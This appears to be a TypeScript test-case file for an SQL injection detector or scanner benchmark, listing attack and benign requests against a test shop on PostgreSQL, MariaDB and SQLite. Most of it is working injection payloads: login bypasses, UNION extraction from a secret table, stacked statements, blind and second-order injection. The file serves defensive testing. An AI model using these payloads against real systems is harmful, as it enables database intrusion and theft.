// Statements of the shop on PostgreSQL, MariaDB and SQLite, by hand and through the libraries that write them.
import type { RangeCase, RangePlaces } from '../case.ts';
import { get, post, shelf } from './shop.ts';

const proseOfCustomers = [
  "O'Brien",
  "It's 5 o'clock; don't drop the table -- please",
  'SELECT a colour FROM the list WHERE you like it',
  "' OR '1'='1",
  '100% OR more',
  'union select',
  "Robert'); DROP TABLE students;--",
  '<b>bold</b> & "quoted" \\ back',
  '日本語 🎉 ünïcode',
  'name',
  'users',
  'hidden = false',
  'role <> 1',
  '$1',
  'NULL',
  'id, name',
  '%',
  '_',
  'a\nb\tc',
];

export function shopSqlCases(places: RangePlaces): RangeCase[] {
  return [...onPostgresql(places), ...onMariadb(places), ...onSqlite(places)];
}

function onPostgresql(places: RangePlaces): RangeCase[] {
  const { cases, attack, benign } = shelf('sql-injection', places, 'postgresql');
  for (const name of [
    "' OR '1'='1' --",
    "root' --",
    "root'--",
    "root'/*",
    "x' OR 1=1 --",
    "' OR hidden = true -- ",
    "x' UNION SELECT 1, entry, 'a', 'b' FROM vault --",
    "' OR true;--",
    "x'; SELECT 1 AS id, entry AS name FROM vault; --",
    "'||(SELECT 'root')||'' --",
    "\\' OR 1=1 --".slice(1),
    "' OR role ~ 'a' --",
    "' OR name IN (SELECT name FROM users) --",
    "' OR ascii(substr(password,1,1)) > 0 --",
    "' OR EXISTS(SELECT 1 FROM vault) --",
    "' or id::text = '3' --",
    "' OR $$a$$ = $$a$$ --",
    "' OR 1=1 LIMIT 5 OFFSET 0 --",
    "' OR CASE WHEN (1=1) THEN true ELSE false END --",
    "' OR pg_sleep(0) IS NOT NULL --",
  ])
    attack(`login as ${name}`, post('/orders/pg/login', { name, password: 'x' }));
  attack('the password breaks out', post('/orders/pg/login', { name: 'root', password: "x' OR '1'='1" }));
  attack('an array', post('/orders/pg/login', { name: ["root' --"], password: 'x' }));
  for (const id of [
    '1 OR 1=1',
    '0 OR true',
    '1 or hidden',
    '-1 UNION SELECT 1, entry, name FROM vault, users',
    '0 UNION ALL SELECT id, entry, entry FROM vault',
    '1;SELECT entry FROM vault',
    '(SELECT 1) OR 2>1',
    '1 OR id BETWEEN 1 AND 9',
    'id OR true',
    '1 or 1=1--',
    '1/**/OR/**/1=1',
    '1\nOR\n1=1',
    '1%0AOR%0A1=1',
    'id',
    '3 OR hidden=true',
    "1 OR name='root'",
    '0||1 = 1 OR TRUE',
    'ANY(SELECT id FROM users) OR hidden',
  ])
    attack(
      `number: ${id}`,
      get(`/orders/pg/users/${encodeURIComponent(decodeURIComponent(id.replace('||', '%7C%7C')))}`),
    );
  for (const q of [
    "%' OR '%'='",
    "%' OR hidden --",
    "x' UNION SELECT entry, entry, entry FROM vault --",
    "' OR name ILIKE '%root",
    "') OR ('1'='1",
    "x%' OR 1=1 --",
    "' or not false --",
    "' OR (hidden) ORDER BY id --",
  ])
    attack(`like: ${q}`, get('/orders/pg/find', { q }));
  for (const query of [
    { sort: 'id LIMIT 0) UNION SELECT 1, entry FROM vault --' },
    { sort: 'id FETCH FIRST 0 ROWS ONLY; SELECT entry FROM vault --' },
    { limit: '0 UNION SELECT 1' },
    { limit: '0; SELECT entry FROM vault --' },
    { offset: '0; SELECT entry FROM vault' },
    { dir: 'ASC LIMIT 0; SELECT entry FROM vault; --' },
    { sort: 'CAST((SELECT entry FROM vault) AS text)' },
    { sort: '(CASE WHEN (SELECT count(*) FROM vault) > 0 THEN id ELSE -id END)' },
  ])
    attack(`list: ${JSON.stringify(query)}`, get('/orders/pg/list', query as Record<string, string>));
  attack(
    'the order tells',
    get('/orders/pg/list', { sort: "(CASE WHEN (SELECT substr(entry,1,1) FROM vault)='s' THEN -id ELSE id END)" }),
    { kind: 'answer', holds: '[{"id":2' },
  );
  for (const ids of ['1) OR (1=1', '0) UNION SELECT entry, entry FROM vault --', '1,3) OR hidden IN (true'])
    attack(`in: ${ids}`, get('/orders/pg/in', { ids }));
  attack('in two values', get('/orders/pg/in', { ids: ['1', '2) OR (1=1'] }));
  attack('cast', get('/orders/pg/cast', { x: "'||(SELECT entry FROM vault)||'" }));
  attack('cast closes', get('/orders/pg/cast', { x: "a'::text || (SELECT entry FROM vault) -- " }));
  for (const id of ['1 OR 1=1', '0 UNION SELECT 1, entry, entry FROM vault', '0 or hidden'])
    attack(
      `token: ${id}`,
      get('/orders/pg/token', { token: Buffer.from(JSON.stringify({ id })).toString('base64') }),
      id.includes('UNION') ? undefined : { kind: 'answer', holds: places.secret },
    );
  for (const id of ['1 OR name IS NOT NULL', "0 or role = 'admin'"])
    attack(`token: ${id}`, get('/orders/pg/token', { token: Buffer.from(JSON.stringify({ id })).toString('base64') }), {
      kind: 'answer',
      holds: 'root',
    });
  attack('insert', post('/orders/pg/comment', { author: 'x', words: "'||(SELECT entry FROM vault)||'" }));
  attack(
    'insert a row',
    post('/orders/pg/comment', { author: "a', (SELECT entry FROM vault)) RETURNING author, words --", words: '' }),
  );
  attack(
    'insert ends early',
    post('/orders/pg/comment', { author: 'x', words: "y'), ('z', (SELECT entry FROM vault" + ") || '" }),
  );
  attack('update', post('/orders/pg/rename', { name: "x', role = (SELECT entry FROM vault), password = 'y" }));
  attack('update, comment', post('/orders/pg/rename', { name: "x', role = (SELECT entry FROM vault) --" }));
  attack('operator on JSON', get('/orders/pg/json', { field: "name' FROM users u UNION SELECT entry FROM vault --" }));
  attack('dollar quote', get('/orders/pg/dollar', { x: '$note$ || (SELECT entry FROM vault) || $note$' }));
  attack('identifier', get('/orders/pg/identifier', { column: 'name", (SELECT entry FROM vault) AS "x' }));
  attack(
    'table',
    get('/orders/pg/table', {
      table:
        '(SELECT 1 AS id, entry FROM vault) AS t GROUP BY entry, id HAVING count(*) > 0; SELECT entry FROM vault --',
    }),
  );
  attack(
    'table, union',
    get('/orders/pg/table', { table: 'users WHERE false UNION SELECT id FROM vault; SELECT * FROM vault;--' }),
  );
  for (const [index, name] of [
    "' OR '1'='1",
    "x' OR hidden --",
    "x' UNION SELECT entry, entry FROM vault --",
    "x' UNION SELECT entry, entry FROM vault WHERE '1'='1",
    "root' --",
    "' OR hidden OR name = '",
    "' OR name LIKE '%",
  ].entries())
    attack(
      `second order: ${name}`,
      get(`/orders/pg/profile/a${index}`),
      name === "root' --" ? { kind: 'answer', holds: 'hunter-not-there' } : undefined,
      [post('/orders/pg/register', { as: `a${index}`, name })],
    );
  const byName = ["' OR '1'='1", "' OR hidden --", "x' UNION SELECT entry, entry FROM vault --", "' OR 1=1;--"];
  for (const path of [
    '/orders/knex/raw',
    '/orders/knex/where',
    '/orders/sequelize/raw',
    '/orders/sequelize/literal',
    '/orders/postgres/unsafe',
    '/orders/drizzle/raw',
  ])
    for (const name of byName) attack(name, get(path, { name }));
  for (const path of ['/orders/knex/order', '/orders/sequelize/order'])
    for (const sort of [
      'id; SELECT entry AS name FROM vault --',
      '(SELECT cast(entry AS integer) FROM vault)',
      '(CASE WHEN (SELECT true FROM vault) THEN -id ELSE id END)',
    ])
      attack(
        sort,
        get(path, { sort }),
        sort.startsWith('(CASE') ? { kind: 'answer', holds: `[{"name":"O'Brien"},` } : undefined,
      );

  for (const q of proseOfCustomers) {
    benign(q, get('/orders/safe/pg/find', { q }), post('/orders/safe/pg/login', { name: q, password: q }));
    benign(q, post('/orders/safe/pg/comment', { author: 'bob', words: q }), get('/orders/safe/pg/escaped', { x: q }));
    benign(q, get('/orders/safe/knex', { name: q }), get('/orders/safe/knex/binding', { name: q }));
    benign(
      q,
      get('/orders/safe/sequelize', { name: q }),
      get('/orders/safe/sequelize/like', { name: q }),
      get('/orders/safe/sequelize/replaced', { name: q }),
    );
    benign(q, get('/orders/safe/postgres', { name: q }), get('/orders/safe/drizzle', { name: q }));
    benign(q, post('/orders/safe/pg/filter', { name: q, role: 'user', [q]: 'x' }));
    if (q.length < 40) benign(q, get('/orders/safe/pg/identifier', { x: q }));
  }
  for (const sort of ['name', 'id', 'role', 'password', 'name DESC', '; DROP'])
    benign(sort, get('/orders/safe/pg/list', { sort, dir: 'desc', limit: '5' }));
  for (const sort of ['name', 'id DESC', 'role, name'])
    benign(sort, get('/orders/knex/order', { sort }), get('/orders/sequelize/order', { sort }));
  for (const id of ['1', '2', '0', '-1', '99']) benign(id, get(`/orders/pg/users/${id}`));
  for (const q of ['bob', 'o', '', 'Brien', 'a b', 'no-one', 'root', 'user', 'hidden'])
    benign(q, get('/orders/pg/find', { q }), post('/orders/pg/login', { name: q, password: 'hunter2' }));
  for (const query of [
    { sort: 'name' },
    { sort: 'name', dir: 'DESC' },
    { limit: '1' },
    { limit: '2', offset: '1' },
    { sort: 'users.id' },
    { sort: '2' },
    { sort: 'id, name' },
  ])
    benign(JSON.stringify(query), get('/orders/pg/list', query as Record<string, string>));
  benign(
    'a list of numbers',
    get('/orders/pg/in', { ids: ['1', '2'] }),
    get('/orders/pg/in', { ids: '1,2' }),
    get('/orders/safe/pg/many', { ids: ['1', '2', '3'] }),
  );
  benign(
    'tables of the program',
    get('/orders/pg/table', { table: 'users' }),
    get('/orders/pg/table', { table: 'comments' }),
  );
  benign(
    'fields',
    get('/orders/pg/json', { field: 'name' }),
    get('/orders/pg/identifier', { column: 'name' }),
    get('/orders/pg/dollar', { x: 'it is $5' }),
  );
  benign('a token', get('/orders/pg/token', { token: Buffer.from('{"id":1}').toString('base64') }));
  benign(
    'names for the past',
    post('/orders/pg/rename', { name: 'Bobby' }),
    post('/orders/pg/comment', { author: 'bob', words: 'select one; or two' }),
  );
  return cases;
}

function onMariadb(places: RangePlaces): RangeCase[] {
  const { cases, attack, benign } = shelf('sql-injection', places, 'mariadb');
  for (const name of [
    "' OR 1=1 -- ",
    "' OR 1=1#",
    "root'#",
    "root' -- x",
    "' || 1=1 -- ",
    "x' UNION SELECT 1,entry,3 FROM vault -- ",
    "' OR 1 -- -",
    "'=0 OR '1",
    "' OR name LIKE 'r%'#",
    "' /*!50000OR*/ 1=1#",
    "'-0-' ' OR 1 -- ",
    "' OR hidden XOR 0#",
  ])
    attack(`login as ${name}`, post('/orders/mysql/login', { name, password: 'x' }));
  attack("numbers: ''=0", post('/orders/mysql/login', { name: "'='", password: "'='" }));
  attack('an object for a value', post('/orders/mysql/object', { name: 'root', password: { password: 1 } }));
  for (const id of [
    '1 OR 1=1',
    '0 UNION SELECT 1,entry,3 FROM vault',
    '1 || 1',
    '3 or hidden',
    'id',
    '1 or sleep(0)=0',
    '1 XOR 1 OR 1',
    '0x31 OR 1',
    '1 or @@version',
    '1 rlike 1 or 1',
  ])
    attack(id, get(`/orders/mysql/users/${encodeURIComponent(id)}`));
  for (const q of ['%" OR "1"="1', '" OR 1=1#', 'x" UNION SELECT entry, entry FROM vault -- ', '" OR hidden OR "'])
    attack(q, get('/orders/mysql/find', { q }));
  for (const query of [
    { sort: 'id', limit: '0; SELECT entry FROM vault' },
    { sort: 'id LIMIT 0; SELECT entry FROM vault -- ' },
    { sort: "IF((SELECT substr(entry,1,1) FROM vault)='s', -id, id)" },
  ])
    attack(
      JSON.stringify(query),
      get('/orders/mysql/list', query),
      query.sort.startsWith('IF') ? { kind: 'answer', holds: '[{"id":2' } : undefined,
    );
  attack('backtick', get('/orders/mysql/tick', { column: 'name` FROM users UNION SELECT entry FROM vault -- ' }));
  attack('a backslash eats the quote', get('/orders/mysql/slash', { a: '\\', b: ' OR 1=1 -- ' }));
  attack('a backslash eats the quote, #', get('/orders/mysql/slash', { a: 'x\\', b: ' OR hidden#' }));
  attack('a second statement', get('/orders/mysql/stacked', { name: "x'; SELECT entry FROM vault -- " }));
  attack(
    'a second statement, quoted',
    get('/orders/mysql/stacked', { name: "x'; SELECT entry FROM vault; SELECT '1" }),
  );
  for (const path of ['/orders/mysql1/find', '/orders/mariadb/find'])
    for (const name of ["' OR 1=1 -- ", "' OR '1'='1", "x' UNION SELECT entry, entry FROM vault#"])
      attack(name, get(path, { name }));

  for (const name of proseOfCustomers) {
    benign(
      name,
      post('/orders/safe/mysql/login', { name, password: name }),
      get('/orders/safe/mysql/escaped', { x: name }),
    );
    benign(
      name,
      get('/orders/safe/mysql1', { name }),
      get('/orders/safe/mariadb', { name }),
      post('/orders/safe/mysql/set', { author: 'bob', words: name }),
    );
  }
  for (const sort of ['id', 'name', 'hidden; DROP']) benign(sort, get('/orders/safe/mysql/sort', { sort }));
  for (const sort of ['id', 'name DESC', 'role, id']) benign(sort, get('/orders/mysql/list', { sort }));
  for (const name of ['bob', 'user', 'no-one', 'a b', 'C++', '50%', '日本'])
    benign(
      name,
      get('/orders/mysql/find', { q: name }),
      get('/orders/mysql/stacked', { name }),
      get('/orders/mysql1/find', { name }),
      get('/orders/mariadb/find', { name }),
      post('/orders/mysql/login', { name, password: name }),
      get('/orders/mysql/slash', { a: name, b: "it's" }),
    );
  for (const id of ['1', '2', '77', '-3']) benign(id, get(`/orders/mysql/users/${id}`));
  benign(
    'texts for values',
    post('/orders/mysql/object', { name: 'bob', password: 'hunter2' }),
    post('/orders/mysql/object', { name: 'bob', password: 5 }),
  );
  return cases;
}

function onSqlite(places: RangePlaces): RangeCase[] {
  const { cases, attack, benign } = shelf('sql-injection', places);
  for (const q of ["%' OR hidden=1 --", "' UNION SELECT title, 1 FROM products --", "x' OR title GLOB '*", "' OR 1 --"])
    attack(q, get('/search/sqlite/find', { q }));
  for (const max of [
    '999 OR 1=1',
    '0 UNION SELECT title, 1 FROM products',
    'price+1 OR hidden',
    '1e9 OR hidden = 1',
    '0 OR 1 IN (1)',
  ])
    attack(max, get('/search/sqlite/price', { max }));
  for (const id of ["3' --", "0' UNION SELECT id, title FROM products --", "3';"])
    attack(id, get('/search/sqlite/union', { id }));
  for (const q of proseOfCustomers)
    benign(q, get('/search/safe/sqlite', { q }), get('/search/safe/sqlite/escaped', { q }));
  for (const q of ['Lamp', 'print', 'a b', '10%', 'C#', 'x;y']) benign(q, get('/search/sqlite/find', { q }));
  for (const max of ['30', '1e3', '20.5', '-1']) benign(max, get('/search/sqlite/price', { max }));
  return cases;
}
